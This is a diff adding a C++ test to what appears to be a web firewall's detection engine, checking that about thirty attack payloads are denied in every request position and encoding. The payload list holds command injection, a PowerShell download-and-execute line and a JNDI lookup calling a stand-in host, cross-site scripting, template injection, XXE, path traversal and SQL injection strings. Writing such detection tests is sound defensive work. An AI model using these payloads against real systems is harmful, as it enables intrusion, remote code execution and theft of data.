@@ -185,5 +185,132 @@ TEST(Codings, HoweverOftenAndWherever) {
   EXPECT_GT(asked, 6500u);
 }
 
+// What is denied as a parameter is denied in every place where an application would read it, in every coding
+// that it would undo.
+constexpr const char* kAnywhere[] = {
+    ";cat /etc/passwd",
+    "x\n/usr/bin/id",
+    "& type C:\\Windows\\win.ini",
+    ";iex(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
+    "() { :;}; /bin/cat /etc/passwd",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "\" onmouseover=\"alert(1)",
+    "';alert(1)//",
+    "javascript:alert(document.cookie)",
+    "<?php system('id');?>",
+    "O:8:\"stdClass\":1:{s:1:\"a\";O:4:\"Evil\":0:{}}",
+    "php://filter/convert.base64-encode/resource=index.php",
+    "__import__('os').system('id')",
+    "require('child_process').exec('id')",
+    "<%= system('id') %>",
+    "${jndi:ldap://203.0.113.9/a}",
+    "T(java.lang.Runtime).getRuntime().exec('id')",
+    "{{''.__class__.__mro__[1].__subclasses__()}}",
+    "<!--#exec cmd=\"id\"-->",
+    "<esi:include src=\"http://a.example/\"/>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
+    "*)(uid=*))(|(uid=*",
+    "' || this.password.match(/.*/)//",
+    "../../../../etc/passwd",
+    "..\\..\\..\\windows\\win.ini",
+    "/etc/passwd",
+    "' union select 1,password from users-- -",
+    "\\write18{id}",
+};
+
+std::string json_escapes(std::string_view text) {
+  std::string out;
+  for (const char c : text) out += fmt::format("\\u{:04x}", byte(c));
+  return out;
+}
+std::string entities(std::string_view text) {
+  std::string out;
+  for (const char c : text) out += is_alnum(c) ? std::string(1, c) : fmt::format("&#{};", byte(c));
+  return out;
+}
+std::string strict_markup(std::string_view text) {
+  std::string out;
+  for (const char c : text) {
+    out += c == '<'   ? "&lt;"
+           : c == '>' ? "&gt;"
+           : c == '&' ? "&amp;"
+           : c == '"' ? "&quot;"
+                      : std::string(1, c);
+  }
+  return out;
+}
+std::string json_quoted(std::string_view text) {
+  std::string out;
+  for (const char c : quoted(text)) out += c == '\n' ? "\\n" : std::string(1, c);
+  return out;
+}
+// Field 1 of a message of Protocol Buffers, in a frame of gRPC.
+std::string remote_call(std::string_view text) {
+  std::string message = "\x0a";
+  std::size_t size = text.size();
+  for (; size >= 0x80; size >>= 7) message += static_cast<char>(size | 0x80);
+  message += static_cast<char>(size);
+  message += text;
+  std::string frame(5, '\0');
+  for (std::size_t i = 0; i < 4; ++i) frame[4 - i] = static_cast<char>(message.size() >> (8 * i));
+  return frame + message;
+}
+
+TEST(Codings, InEveryPlace) {
+  const Coding once = [](std::string_view text) { return percent(text, false, false); };
+  const std::string end = " HTTP/1.1\r\nHost: a.example\r\n";
+  const std::string post = "POST /a" + end + "Content-Type: ";
+  const std::string part =
+      post +
+      "multipart/form-data; boundary=B\r\n\r\n--B\r\nContent-Disposition: form-data; name=\"p\"\r\n\r\n";
+  const Place places[] = {
+      {"query", "GET /a?p=", end + "\r\n", once},
+      {"name", "GET /a?", "=1" + end + "\r\n", once},
+      {"path", "GET /a/", "/b" + end + "\r\n", once},
+      {"cookie", "GET /a" + end + "Cookie: s=1; p=", "\r\n\r\n", once},
+      {"header", "GET /a" + end + "X-P: ", "\r\n\r\n", once},
+      {"form", post + "application/x-www-form-urlencoded\r\n\r\na=1&p=", "&b=2", once},
+      {"part", part, "\r\n--B--\r\n", plain},
+      {"json", post + "application/json\r\n\r\n{\"a\":1,\"p\":\"", "\"}", json_quoted},
+      {"member", post + "application/json\r\n\r\n{\"", "\":1}", json_quoted},
+      {"variable",
+       post + "application/json\r\n\r\n{\"query\":\"query($p:String){a(b:$p){c}}\",\"variables\":{\"p\":\"",
+       "\"}}", json_quoted},
+      {"xml", post + "text/xml\r\n\r\n<a><b>1</b><p>", "</p></a>", strict_markup},
+      {"yaml", post + "application/yaml\r\n\r\na: 1\np: \"", "\"\n", json_quoted},
+      {"call", post + "application/grpc\r\n\r\n", "", remote_call},
+      {"text call", post + "application/grpc-web-text\r\n\r\n", "",
+       [](std::string_view text) { return base64(remote_call(text), false); }},
+  };
+  struct Row {
+    const char* name;
+    Coding coding;
+  };
+  const Row rows[] = {
+      {"plain", plain},
+      {"percent", once},
+      {"every byte", [](std::string_view text) { return percent(text, true, false); }},
+      {"percent twice", [&](std::string_view text) { return once(once(text)); }},
+      {"base64", [](std::string_view text) { return base64(text, false); }},
+      {"base64url", [](std::string_view text) { return base64(text, true); }},
+      {"base64 twice", [](std::string_view text) { return base64(base64(text, false), false); }},
+      {"percent, base64", [&](std::string_view text) { return base64(once(text), false); }},
+      {"base64, percent", [&](std::string_view text) { return once(base64(text, false)); }},
+      {"\\u", json_escapes},
+      {"references", entities},
+  };
+  const auto scratch = full_engine().make_scratch();
+  Verdict verdict;
+  for (const char* attack : kAnywhere) {
+    for (const Place& place : places) {
+      for (const Row& row : rows) {
+        EXPECT_TRUE(denies(place.before + place.own(row.coding(attack)) + place.after, *scratch, verdict))
+            << attack << " in " << place.name << ", " << row.name;
+      }
+    }
+  }
+}
+
 }  // namespace
 }  // namespace wafd::detect
